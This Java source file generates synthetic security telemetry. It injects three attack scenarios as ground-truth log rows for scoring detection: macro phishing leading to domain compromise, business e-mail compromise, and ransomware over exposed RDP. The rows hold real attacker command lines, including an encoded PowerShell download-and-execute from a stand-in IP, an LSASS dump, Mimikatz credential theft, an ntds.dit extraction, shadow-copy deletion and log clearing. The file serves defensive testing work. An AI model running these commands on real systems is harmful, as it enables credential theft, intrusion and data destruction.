package dev.rampart.portal.demo;

import java.nio.charset.StandardCharsets;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.SplittableRandom;

/**
 * The injected attacks. Every row a scenario writes while a step is open is recorded as that step's ground
 * truth (table, device, ReportId), so detection and correlation can be scored against it. Indicators are
 * distinctive but realistic: documentation address ranges for attacker infrastructure, real tool command lines.
 */
final class Attacks {
    static final String PHISH_SENDER = "billing@freightpay-invoices.example";
    static final String PHISH_SENDER_IP = "198.51.100.77";
    static final String PAYLOAD_IP = "203.0.113.45";
    static final String BEC_IP = "198.51.100.23";
    static final String BEC_FORWARD = "j.mercer.payments@proton-mail.example";
    static final String RDP_ATTACKER_IP = "203.0.113.199";
    static final String RANSOM_EXTENSION = ".kr4ken";

    private final DemoOrganisation org;
    private final AttackRecorder rec = new AttackRecorder();
    private final DeviceRows rows;
    private final CloudRows cloud;
    private final Accounts accounts;
    private final Endpoints endpoints;
    private final SplittableRandom rnd;
    private long attackBase;
    private long seq;

    Attacks(DemoOrganisation org, Shapes shapes, RowSink sink, Endpoints endpoints, Accounts accounts, SplittableRandom rnd) {
        this.org = org;
        this.endpoints = endpoints;
        this.accounts = accounts;
        this.rnd = rnd;
        RowSink recording = new RecordingSink(sink);
        this.rows = new DeviceRows(shapes, recording);
        this.cloud = new CloudRows(shapes, recording, org);
    }

    /** The recorder sees every row before the real sink, and notes it if a step is open. */
    private final class RecordingSink implements RowSink {
        private final RowSink target;

        RecordingSink(RowSink target) {
            this.target = target;
        }

        @Override
        public void accept(Shape table, Object[] row) {
            if (recording) {
                int device = table.optional("DeviceId");
                rec.row(table.name, device < 0 ? null : (String) row[device], row[table.col("ReportId")], (LocalDateTime) row[table.col("Timestamp")]);
            }
            target.accept(table, row);
        }
    }

    private boolean recording;

    /** Writes all scenarios ending before {@code endMs}; they happen within the last three days. */
    List<DemoAttack> run(long endMs) {
        long midnight = Math.floorDiv(endMs, Time.DAY) * Time.DAY;
        phishing(midnight - 2 * Time.DAY + 15 * Time.HOUR + 14 * Time.MINUTE);
        bec(midnight - Time.DAY + 2 * Time.HOUR + 40 * Time.MINUTE);
        ransomware(midnight - Time.DAY + 6 * Time.HOUR + 5 * Time.MINUTE);
        return rec.attacks();
    }

    private long rid() {
        return attackBase + ++seq;
    }

    private void begin(int no, String key, String name, String description) {
        attackBase = 900_000_000L + no * 100_000L;
        seq = 0;
        rec.begin(key, name, description);
        recording = true;
    }

    private void step(String technique, String tactic, String table, DemoDevice device, DemoUser user, String description) {
        rec.step(technique, tactic, table, device == null ? null : device.name(), user == null ? null : user.upn(), description);
    }

    private void end() {
        rec.end();
        recording = false;
    }

    private DemoUser personWithWindowsDevice(String department, int skip) {
        return org.devices(DeviceKind.WINDOWS_WORKSTATION).stream().map(d -> org.user(d.primaryUser()))
                .filter(u -> u.department().equals(department)).skip(skip).findFirst()
                .orElseGet(() -> org.user(org.devices(DeviceKind.WINDOWS_WORKSTATION).get(skip).primaryUser()));
    }

    private DemoDevice deviceOf(DemoUser u) {
        return org.devices().stream().filter(d -> u.samAccountName().equals(d.primaryUser())).findFirst().orElseThrow();
    }

    private DemoUser admin() {
        return org.users().stream().filter(DemoUser::admin).findFirst().orElseThrow();
    }

    private static Proc proc(Binary bin, String cmd, long ms, Account account, Proc parent, String integrity, long pid) {
        return new Proc(bin, pid, cmd, Time.ts(ms), account, integrity,
                "High".equals(integrity) || "System".equals(integrity) ? "TokenElevationTypeFull" : "TokenElevationTypeLimited",
                parent == null ? 0 : parent.logonId(), parent == null ? 0 : parent.sessionId(), parent);
    }

    // ---------------------------------------------------------------- 1. phishing macro to domain compromise

    private void phishing(long t0) {
        DemoUser victim = personWithWindowsDevice("Finance", 0);
        Host ws = endpoints.host(deviceOf(victim));
        DemoUser adminUser = admin();
        Account admin = accounts.of(adminUser.samAccountName());
        Account user = accounts.of(victim.samAccountName());
        DemoDevice fs = org.first(DeviceKind.FILE_SERVER);
        DemoDevice dc = org.first(DeviceKind.DOMAIN_CONTROLLER);
        Host fsHost = endpoints.host(fs);
        Host dcHost = endpoints.host(dc);
        begin(1, "phishing-macro", "Macro phishing to domain credential theft",
                "Invoice-themed mail with a macro document; Word starts encoded PowerShell that downloads a tool from "
                        + PAYLOAD_IP + ", dumps LSASS, and moves laterally with PsExec to the file server and WMI to the domain controller.");
        String nmi = Ids.guid(rnd);
        String docName = "INV-48213.docm";
        Binary doc = Binary.unsigned(docName, "phish-doc:" + org.seed(), 187_392);
        step("T1566.001", "initial-access", "EmailEvents", null, victim, "Spearphishing attachment " + docName + " from " + PHISH_SENDER);
        cloud.email(rnd, Time.ts(t0), nmi, PHISH_SENDER, "FreightPay Billing", null, PHISH_SENDER_IP, victim, null,
                "Overdue invoice INV-48213 - action required", "Inbound", "Delivered", "Inbox/Folder", null, 1, 0);
        cloud.attachment(rnd, Time.ts(t0), nmi, PHISH_SENDER, "FreightPay Billing", victim, docName, doc.sha256(), doc.size());

        Proc explorer = proc(Catalog.EXPLORER, "C:\\Windows\\Explorer.EXE", t0 - 5 * Time.HOUR, user, null, "Medium", 4_412);
        Proc outlook = proc(Catalog.OUTLOOK, '"' + Catalog.OUTLOOK.path() + '"', t0 - 5 * Time.HOUR + 40_000, user, explorer, "Medium", 7_020);
        long t = t0 + 6 * Time.MINUTE;
        String docPath = ws.ownerHome + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7ZK2M1A\\" + docName;
        step("T1204.002", "execution", "DeviceProcessEvents", ws.device, victim, "User opens the macro document: OUTLOOK starts WINWORD");
        rows.file(ws.device, Time.ts(t), outlook, "FileCreated", docName, docPath, doc, doc.size(), null, null, null, null, rid());
        Proc word = proc(Catalog.WINWORD, '"' + Catalog.WINWORD.path() + "\" /n \"" + docPath + "\" /o \"\"", t + 2_000, user, outlook, "Medium", 9_316);
        rows.processCreated(ws.device, word, rid());

        String script = "IEX (New-Object Net.WebClient).DownloadString('http://" + PAYLOAD_IP + "/s/upd.ps1')";
        String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
        step("T1059.001", "execution", "DeviceProcessEvents", ws.device, victim, "WINWORD spawns hidden PowerShell with an encoded command");
        Proc ps = proc(Catalog.POWERSHELL, "powershell.exe -NoP -NonI -W Hidden -Enc " + encoded, t + 41_000, user, word, "Medium", 10_244);
        rows.processCreated(ws.device, ps, rid());
        rows.imageLoad(ws.device, Time.ts(t + 41_300), ps, Catalog.CLR, rid());

        step("T1105", "command-and-control", "DeviceNetworkEvents", ws.device, victim, "PowerShell downloads a script and a tool from a rare external address");
        rows.network(ws.device, Time.ts(t + 43_000), ps, "ConnectionSuccess", PAYLOAD_IP, 80, "http://" + PAYLOAD_IP + "/s/upd.ps1", 51_733, "Tcp", rid());
        rows.network(ws.device, Time.ts(t + 47_000), ps, "ConnectionSuccess", PAYLOAD_IP, 80, "http://" + PAYLOAD_IP + "/s/msupd.exe", 51_734, "Tcp", rid());
        Binary tool = Binary.unsigned("C:\\Users\\Public\\Libraries\\msupd.exe", "phish-tool:" + org.seed(), 1_304_576);
        rows.file(ws.device, Time.ts(t + 49_000), ps, "FileCreated", tool.fileName(), tool.path(), tool, tool.size(),
                "http://" + PAYLOAD_IP + "/s/msupd.exe", PAYLOAD_IP, null, null, rid());

        step("T1071.001", "command-and-control", "DeviceNetworkEvents", ws.device, victim, "The dropped tool beacons over HTTPS");
        Proc implant = proc(tool, "\"C:\\Users\\Public\\Libraries\\msupd.exe\" -k svc", t + 55_000, user, ps, "High", 11_080);
        rows.processCreated(ws.device, implant, rid());
        for (int i = 0; i < 12; i++) {
            rows.network(ws.device, Time.ts(t + 60_000 + i * 300_000L + rnd.nextInt(20_000)), implant, "ConnectionSuccess", PAYLOAD_IP, 443,
                    null, 52_000 + i, "Tcp", rid());
        }

        long tc = t + 25 * Time.MINUTE;
        step("T1003.001", "credential-access", "DeviceProcessEvents", ws.device, victim, "LSASS memory dumped with comsvcs.dll MiniDump and a Mimikatz-like tool");
        Proc dump = proc(Catalog.RUNDLL32, "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Users\\Public\\Libraries\\lsass.dmp full",
                tc, user, implant, "High", 12_508);
        rows.processCreated(ws.device, dump, rid());
        rows.imageLoad(ws.device, Time.ts(tc + 200), dump, Catalog.COMSVCS, rid());
        rows.imageLoad(ws.device, Time.ts(tc + 210), dump, Catalog.DBGHELP, rid());
        rows.file(ws.device, Time.ts(tc + 4_000), dump, "FileCreated", "lsass.dmp", "C:\\Users\\Public\\Libraries\\lsass.dmp", null, 48_211_968,
                null, null, null, null, rid());
        Binary mimi = Binary.unsigned("C:\\Users\\Public\\Libraries\\mk.exe", "phish-mimi:" + org.seed(), 1_250_056);
        Proc mk = proc(mimi, "mk.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", tc + 60_000, user, implant, "High", 12_940);
        rows.processCreated(ws.device, mk, rid());
        rows.imageLoad(ws.device, Time.ts(tc + 60_300), mk, Catalog.SAMLIB, rid());

        long td = tc + 9 * Time.MINUTE;
        step("T1069.002", "discovery", "IdentityQueryEvents", ws.device, victim, "Domain Admins group enumerated from the victim workstation");
        Proc net = proc(Catalog.NET, "net group \"Domain Admins\" /domain", td, user, implant, "High", 13_100);
        rows.processCreated(ws.device, net, rid());
        cloud.identityQuery(rnd, Time.ts(td + 300), "SAMR query", "QueryGroup", "Domain Admins", "QueryGroup: Domain Admins", "Samr", victim, ws.device, dc, null);

        long tl = td + 14 * Time.MINUTE;
        Binary psexec = Binary.of("C:\\Users\\Public\\Libraries\\PsExec64.exe", "Sysinternals - www.sysinternals.com", "Sysinternals PsExec", "2.43", "Execute processes remotely");
        step("T1569.002", "lateral-movement", "DeviceProcessEvents", fs, adminUser, "PsExec with the stolen admin credentials to the file server");
        Proc psx = proc(psexec, "PsExec64.exe \\\\fs01 -accepteula -u LARKSPUR\\" + admin.name() + " -p ******** -s cmd.exe /c \"net share & dir D:\\Shares\"",
                tl, user, implant, "High", 13_720);
        rows.processCreated(ws.device, psx, rid());
        rows.network(ws.device, Time.ts(tl + 500), psx, "ConnectionSuccess", fs.ip(), 445, null, 53_101, "Tcp", rid());
        rows.logon(fs, Time.ts(tl + 900), fsHost.lsass, "LogonSuccess", "Network", admin, "NTLM", null, true, ws.device.shortName(), ws.device.ip(),
                53_101, 88_431_207L, rid());
        cloud.identityLogon(rnd, Time.ts(tl + 950), "LogonSuccess", "Resource Access (type 3)", "Ntlm", null, adminUser, ws.device, ws.device.ip(), dc, fs.name());
        rows.registryEvent(fs, Time.ts(tl + 1_500), fsHost.services, "ServiceInstalled", "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\PSEXESVC",
                "ImagePath", "%SystemRoot%\\PSEXESVC.exe",
                "{\"ServiceName\":\"PSEXESVC\",\"ServiceAccount\":\"LocalSystem\",\"ServiceStartType\":3,\"ServiceType\":16}", rid());
        Proc svc = proc(Catalog.PSEXESVC, "C:\\Windows\\PSEXESVC.exe", tl + 1_800, Account.SYSTEM, fsHost.services, "System", 6_116);
        rows.processCreated(fs, svc, rid());
        rows.processCreated(fs, proc(Catalog.CMD, "\"cmd.exe\" /c \"net share & dir D:\\Shares\"", tl + 2_400, Account.SYSTEM, svc, "System", 6_208), rid());

        long tw = tl + 11 * Time.MINUTE;
        String ntds = "cmd.exe /c ntdsutil \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\ifm\" q q";
        step("T1047", "lateral-movement", "DeviceProcessEvents", dc, adminUser, "WMI process creation on the domain controller");
        Proc wmic = proc(Catalog.WMIC, "wmic /node:dc01." + DemoOrganisation.DNS_DOMAIN + " /user:LARKSPUR\\" + admin.name() + " process call create \"" + ntds.replace("\"", "'") + '"',
                tw, user, implant, "High", 14_040);
        rows.processCreated(ws.device, wmic, rid());
        rows.network(ws.device, Time.ts(tw + 400), wmic, "ConnectionSuccess", dc.ip(), 135, null, 53_377, "Tcp", rid());
        rows.logon(dc, Time.ts(tw + 800), dcHost.lsass, "LogonSuccess", "Network", admin, "NTLM", null, true, ws.device.shortName(), ws.device.ip(),
                53_377, 91_004_118L, rid());
        cloud.identityLogon(rnd, Time.ts(tw + 850), "LogonSuccess", "Resource Access (type 3)", "Ntlm", null, adminUser, ws.device, ws.device.ip(), dc, dc.name());
        Proc wmiprvse = proc(Catalog.WMIPRVSE, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", tw + 1_000, Account.NETWORK_SERVICE, dcHost.svchosts[4], "System", 3_880);
        Proc cmd = proc(Catalog.CMD, ntds, tw + 1_300, admin, wmiprvse, "High", 4_512);
        rows.processCreated(dc, cmd, rid());
        step("T1003.003", "credential-access", "DeviceProcessEvents", dc, adminUser, "ntdsutil IFM copy of the AD database");
        rows.processCreated(dc, proc(Binary.of("C:\\Windows\\System32\\ntdsutil.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System",
                "10.0.20348.1", "NT5DS"), "ntdsutil  \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\ifm\" q q", tw + 1_700, admin, cmd, "High", 4_620), rid());
        rows.file(dc, Time.ts(tw + 45_000), cmd, "FileCreated", "ntds.dit", "C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit", null, 50_331_648,
                null, null, null, null, rid());
        end();
    }

    // ---------------------------------------------------------------- 2. business e-mail compromise

    private void bec(long t0) {
        DemoUser victim = personWithWindowsDevice("Finance", 1);
        DemoSite home = victim.site();
        begin(2, "bec", "Business e-mail compromise of a finance mailbox",
                "Password guessed from " + BEC_IP + " (RO) without MFA; an inbox rule forwards and hides payment mail to "
                        + BEC_FORWARD + "; the mailbox then sends fraudulent bank-detail changes internally and to customers.");
        step("T1110.003", "credential-access", "EntraIdSignInEvents", null, victim, "Failed sign-ins from a foreign address");
        for (int i = 0; i < 4; i++) {
            cloud.signIn(rnd, Time.ts(t0 + i * 41_000L), CloudRows.EXCHANGE, victim, null, BEC_IP, "RO", "Bucharest", 50126, false, 50);
        }
        long t = t0 + 4 * Time.MINUTE;
        step("T1078.004", "initial-access", "EntraIdSignInEvents", null, victim, "Successful single-factor sign-in from " + BEC_IP);
        cloud.signIn(rnd, Time.ts(t), CloudRows.EXCHANGE, victim, null, BEC_IP, "RO", "Bucharest", 0, false, 50);

        step("T1114.002", "collection", "CloudAppEvents", null, victim, "Mailbox read from the foreign address");
        for (int i = 0; i < 6; i++) {
            cloud.cloud(rnd, Time.ts(t + 60_000 + i * 45_000L), CloudRows.EXCHANGE, "MailItemsAccessed", "Read", victim, BEC_IP, "RO", "Bucharest",
                    "M247 Europe SRL", victim.email(), "Mailbox",
                    "{\"Operation\":\"MailItemsAccessed\",\"MailboxOwnerUPN\":\"" + victim.upn() + "\",\"ClientIPAddress\":\"" + BEC_IP + "\",\"ClientInfoString\":\"Client=OWA;Action=ViaProxy\",\"OperationCount\":" + (40 + i * 7) + "}", false);
        }
        long tr = t + 12 * Time.MINUTE;
        step("T1114.003", "collection", "CloudAppEvents", null, victim, "Inbox rule forwards payment mail externally and hides it");
        cloud.cloud(rnd, Time.ts(tr), CloudRows.EXCHANGE, "New-InboxRule", "Create", victim, BEC_IP, "RO", "Bucharest", "M247 Europe SRL", "..", "Inbox rule",
                "{\"Operation\":\"New-InboxRule\",\"ResultStatus\":\"True\",\"UserId\":\"" + victim.upn() + "\",\"ClientIP\":\"" + BEC_IP + ":50212\",\"Parameters\":["
                        + "{\"Name\":\"Name\",\"Value\":\"..\"},{\"Name\":\"SubjectOrBodyContainsWords\",\"Value\":\"invoice;payment;wire;bank;remittance\"},"
                        + "{\"Name\":\"ForwardTo\",\"Value\":\"" + BEC_FORWARD + "\"},{\"Name\":\"MoveToFolder\",\"Value\":\"RSS Subscriptions\"},"
                        + "{\"Name\":\"MarkAsRead\",\"Value\":\"True\"},{\"Name\":\"StopProcessingRules\",\"Value\":\"True\"}]}", false);
        cloud.cloud(rnd, Time.ts(tr + 90_000), CloudRows.EXCHANGE, "Set-Mailbox", "Update", victim, BEC_IP, "RO", "Bucharest", "M247 Europe SRL", victim.email(), "Mailbox",
                "{\"Operation\":\"Set-Mailbox\",\"ResultStatus\":\"True\",\"Parameters\":[{\"Name\":\"Identity\",\"Value\":\"" + victim.upn() + "\"},"
                        + "{\"Name\":\"ForwardingSmtpAddress\",\"Value\":\"smtp:" + BEC_FORWARD + "\"},{\"Name\":\"DeliverToMailboxAndForward\",\"Value\":\"True\"}]}", false);

        long ti = tr + 95 * Time.MINUTE;
        step("T1534", "lateral-movement", "EmailEvents", null, victim, "Internal mail to finance colleagues announcing changed bank details");
        List<DemoUser> finance = new ArrayList<>(org.people().stream().filter(u -> u.department().equals("Finance") && !u.equals(victim)).toList());
        String nmi = Ids.guid(rnd);
        for (DemoUser to : finance) {
            cloud.email(rnd, Time.ts(ti), nmi, victim.email(), victim.displayName(), victim.objectId(), BEC_IP, to, null,
                    "URGENT: updated bank details for pending vendor payments", "Intra-org", "Delivered", "Inbox/Folder", null, 0, 0);
        }
        long tm = ti + 20 * Time.MINUTE;
        step("T1657", "impact", "EmailEvents", null, victim, "Mass mail to customers asking to pay invoices to a new account");
        String[] domains = {"bluewhale-shipping.example", "northgate-supplies.example", "harbor-customs.example", "fleetparts.example",
            "tradewinds-freight.example", "summit-consulting.example", "meridian-insurance.example", "oakridge-bank.example"};
        String mass = Ids.guid(rnd);
        for (int i = 0; i < 48; i++) {
            String to = new String[] {"ap", "accounts", "finance", "billing", "payables", "controller"}[i % 6] + '@' + domains[i % domains.length];
            cloud.email(rnd, Time.ts(tm + i * 2_000L), mass, victim.email(), victim.displayName(), victim.objectId(), BEC_IP, null, to,
                    "Remittance update: new account for outstanding invoices", "Outbound", "Delivered", "On-premises/External", null, 1, 0);
        }
        cloud.cloud(rnd, Time.ts(tm), CloudRows.EXCHANGE, "Send", "Create", victim, BEC_IP, "RO", "Bucharest", "M247 Europe SRL",
                "Remittance update: new account for outstanding invoices", "Email",
                "{\"Operation\":\"Send\",\"ClientIP\":\"" + BEC_IP + "\",\"Recipients\":48}", false);
        end();
    }

    // ---------------------------------------------------------------- 3. ransomware precursor via exposed RDP

    private void ransomware(long t0) {
        DemoDevice fs = org.first(DeviceKind.FILE_SERVER);
        Host fsHost = endpoints.host(fs);
        DemoUser backupUser = org.user("svc_backup");
        Account backup = accounts.of("svc_backup");
        begin(3, "ransomware-rdp", "Ransomware on the file server via exposed RDP",
                "RDP brute force from " + RDP_ATTACKER_IP + " against the internet-facing file server, success as svc_backup, "
                        + "shadow copies deleted, recovery disabled, logs cleared, share files renamed to *" + RANSOM_EXTENSION + '.');
        String[] names = {"administrator", "admin", "backup", "svc_backup", "scanner", "user", "test", "sqladmin"};
        step("T1110.001", "credential-access", "DeviceLogonEvents", fs, null, "RDP password guessing from " + RDP_ATTACKER_IP);
        int attempts = org.scale() == DemoScale.SMALL ? 80 : 240;
        for (int i = 0; i < attempts; i++) {
            String n = names[i % names.length];
            Account tried = n.equals("svc_backup") ? backup : new Account(n.equals("administrator") ? "fs01" : Accounts.DOMAIN, n, null, null, null);
            long ms = t0 + i * 9_000L + rnd.nextInt(4_000);
            rows.logon(fs, Time.ts(ms), fsHost.lsass, "LogonFailed", "Network", tried, "NTLM", n.startsWith("svc") || n.startsWith("admin") ? "InvalidUserNameOrPassword" : "UnknownUser",
                    false, "WIN-8J3KQ2P1TR5", RDP_ATTACKER_IP, 40_000 + i, 0, rid());
            if (i % 20 == 0) {
                rows.network(fs, Time.ts(ms - 300), fsHost.svchosts[9], "InboundConnectionAccepted", RDP_ATTACKER_IP, 40_000 + i, null, 3389, "Tcp", rid());
            }
        }
        long t = t0 + attempts * 9_000L + 30_000;
        step("T1021.001", "lateral-movement", "DeviceLogonEvents", fs, backupUser, "RDP logon as svc_backup from " + RDP_ATTACKER_IP);
        long logonId = 71_220_339L;
        rows.logon(fs, Time.ts(t), fsHost.lsass, "LogonSuccess", "RemoteInteractive", backup, "Negotiate", null, true, "WIN-8J3KQ2P1TR5",
                RDP_ATTACKER_IP, 41_999, logonId, rid());

        Proc winlogon = new Proc(Catalog.WINLOGON, 8_124, "winlogon.exe", Time.ts(t - 2_000), Account.SYSTEM, "System", "TokenElevationTypeDefault", 999, 2, null);
        Proc explorer = new Proc(Catalog.EXPLORER, 8_800, "C:\\Windows\\Explorer.EXE", Time.ts(t + 3_000), backup, "High", "TokenElevationTypeFull", logonId, 2, winlogon);
        Proc cmd = new Proc(Catalog.CMD, 9_020, "\"C:\\Windows\\system32\\cmd.exe\"", Time.ts(t + 120_000), backup, "High", "TokenElevationTypeFull", logonId, 2, explorer);
        step("T1490", "impact", "DeviceProcessEvents", fs, backupUser, "Shadow copies deleted and boot recovery disabled");
        rows.processCreated(fs, explorer, rid());
        rows.processCreated(fs, cmd, rid());
        long tx = t + 180_000;
        String[][] inhibit = {{"vssadmin", "vssadmin.exe delete shadows /all /quiet"}, {"wmic", "wmic.exe shadowcopy delete /nointeractive"},
            {"bcdedit", "bcdedit.exe /set {default} recoveryenabled No"}, {"bcdedit", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"}};
        for (int i = 0; i < inhibit.length; i++) {
            Binary b = switch (inhibit[i][0]) {
                case "vssadmin" -> Catalog.VSSADMIN;
                case "wmic" -> Catalog.WMIC;
                default -> Catalog.BCDEDIT;
            };
            rows.processCreated(fs, new Proc(b, 9_100 + i * 8L, inhibit[i][1], Time.ts(tx + i * 7_000L), backup, "High", "TokenElevationTypeFull", logonId, 2, cmd), rid());
        }
        long tl = tx + 60_000;
        step("T1070.001", "stealth", "DeviceProcessEvents", fs, backupUser, "Security and System event logs cleared");
        for (int i = 0; i < 2; i++) {
            String log = i == 0 ? "Security" : "System";
            Proc w = new Proc(Catalog.WEVTUTIL, 9_200 + i * 8L, "wevtutil.exe cl " + log, Time.ts(tl + i * 3_000L), backup, "High", "TokenElevationTypeFull", logonId, 2, cmd);
            rows.processCreated(fs, w, rid());
            if (i == 0) {
                rows.event(fs, Time.ts(tl + 500), w, "SecurityLogCleared", null, null, null, backup, null, null, null, null, "{}", rid());
            }
        }
        long te = tl + 4 * Time.MINUTE;
        step("T1486", "impact", "DeviceFileEvents", fs, backupUser, "Share files renamed to *" + RANSOM_EXTENSION + " and ransom notes dropped");
        Binary locker = Binary.unsigned("C:\\PerfLogs\\krk.exe", "ransom:" + org.seed(), 912_384);
        rows.file(fs, Time.ts(te - 30_000), explorer, "FileCreated", locker.fileName(), locker.path(), locker, locker.size(), null, null, null, null, rid());
        Proc krk = new Proc(locker, 9_404, "C:\\PerfLogs\\krk.exe -p D:\\Shares -e " + RANSOM_EXTENSION + " -t 4", Time.ts(te), backup, "High",
                "TokenElevationTypeFull", logonId, 2, cmd);
        rows.processCreated(fs, krk, rid());
        String[] depts = {"Finance", "Operations", "Logistics", "Sales", "HR", "Legal", "Engineering", "Marketing"};
        int renames = switch (org.scale()) {
            case SMALL -> 150;
            case DEFAULT -> 600;
            case LARGE -> 1500;
        };
        for (int i = 0; i < renames; i++) {
            String dept = depts[i % depts.length];
            String name = "Doc" + (1000 + i / depts.length) + (i % 3 == 0 ? ".xlsx" : i % 3 == 1 ? ".docx" : ".pdf");
            String folder = "D:\\Shares\\" + dept + '\\';
            rows.file(fs, Time.ts(te + 2_000 + i * 150L), krk, "FileRenamed", name + RANSOM_EXTENSION, folder + name + RANSOM_EXTENSION, null,
                    20_000 + (i * 7_919L) % 3_000_000, null, null, name, folder + name, rid());
        }
        for (int i = 0; i < depts.length; i++) {
            rows.file(fs, Time.ts(te + 1_000 + i * 500L), krk, "FileCreated", "README-KR4KEN.txt", "D:\\Shares\\" + depts[i] + "\\README-KR4KEN.txt", null,
                    2_114, null, null, null, null, rid());
        }
        end();
    }
}
